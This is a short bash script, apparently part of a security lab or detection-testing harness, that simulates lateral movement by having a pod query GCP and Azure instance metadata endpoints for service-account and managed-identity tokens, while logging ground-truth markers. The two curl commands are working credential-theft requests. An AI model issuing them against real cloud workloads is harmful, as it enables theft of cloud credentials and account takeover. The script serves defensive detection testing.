#!/usr/bin/env bash
# Lateral movement (towards the cloud account), GCP and Azure style: the compromised
# pod asks the metadata service for a service-account / managed-identity token.
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target "$METADATA_IP"
ns=$(lab_pod_ns toolbox)
gt_begin cloud-metadata-clouds lateral-movement curl pod:toolbox "ext:instance-metadata=$METADATA_IP" "GCP /computeMetadata/v1/…/token with Metadata-Flavor, Azure /metadata/identity/oauth2/token"
m=http://$METADATA_IP
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H 'Metadata-Flavor: Google' "$m/computeMetadata/v1/instance/service-accounts/default/token" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H 'Metadata: true' "$m/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" || true
gt_end '{"dport":80}'
